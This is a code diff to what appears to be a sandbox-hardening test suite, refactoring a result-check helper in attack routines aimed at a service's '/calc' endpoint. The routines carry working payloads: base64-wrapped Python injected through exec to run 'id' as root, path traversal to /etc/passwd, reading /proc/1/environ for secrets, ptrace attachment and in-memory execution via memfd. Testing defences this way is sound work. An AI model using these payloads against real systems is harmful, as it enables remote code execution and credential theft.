@@ -6,36 +6,31 @@ import urllib.parse
 
 from .attacker import Home
 from .base import Attack, AttackFailed, Instance
-from .http_client import Browser, fetch
+from .http_client import Browser, fetch, must_show
 
 SERVER = "process /usr/bin/python3.11"
 
 
-def _run(instance: Instance, code: str) -> bytes:
+def _run(instance: Instance, code: str) -> tuple[int, bytes]:
     """Runs statements in the service; what it answers is the variable `result`."""
     packed = base64.b64encode(code.encode()).decode()
     term = f"(lambda names: (exec(__import__('base64').b64decode('{packed}'), names), names.get('result'))[1])({{}})"
     status, content = fetch(instance.port, "/calc?" + urllib.parse.urlencode({"x": term}))
     if status != 200:
         raise AttackFailed(f"status {status}, {content[:80]!r}")
-    return content
-
-
-def _must_show(content: bytes, what: bytes) -> None:
-    if what not in content:
-        raise AttackFailed(f"{what!r} not in {content[:80]!r}")
+    return status, content
 
 
 def run_program(instance: Instance) -> None:
-    _must_show(_run(instance, "import subprocess\nresult = subprocess.check_output(['id'])"), b"uid=0")
+    must_show(_run(instance, "import subprocess\nresult = subprocess.check_output(['id'])"), b"uid=0")
 
 
 def traverse(instance: Instance) -> None:
-    _must_show(fetch(instance.port, "/files?name=../../etc/passwd")[1], b"root:x:0")
+    must_show(fetch(instance.port, "/files?name=../../etc/passwd"), b"root:x:0")
 
 
 def read_environment(instance: Instance) -> None:
-    _must_show(_run(instance, "result = open('/proc/1/environ').read()"), b"BACKEND")
+    must_show(_run(instance, "result = open('/proc/1/environ').read()"), b"BACKEND")
 
 
 def reverse_shell(instance: Instance) -> None:
@@ -72,11 +67,11 @@ builtins.kept = keep
 
 def trace_process(instance: Instance) -> None:
     code = "import ctypes\nresult = ctypes.CDLL(None).ptrace(16, 999999, 0, 0)"  # PTRACE_ATTACH, nobody there
-    _must_show(_run(instance, code), b"-1")
+    must_show(_run(instance, code), b"-1")
 
 
 def run_from_memory(instance: Instance) -> None:
-    _must_show(_run(instance, """
+    must_show(_run(instance, """
 import os
 made = os.memfd_create('x')
 with open('/bin/ls', 'rb') as file:
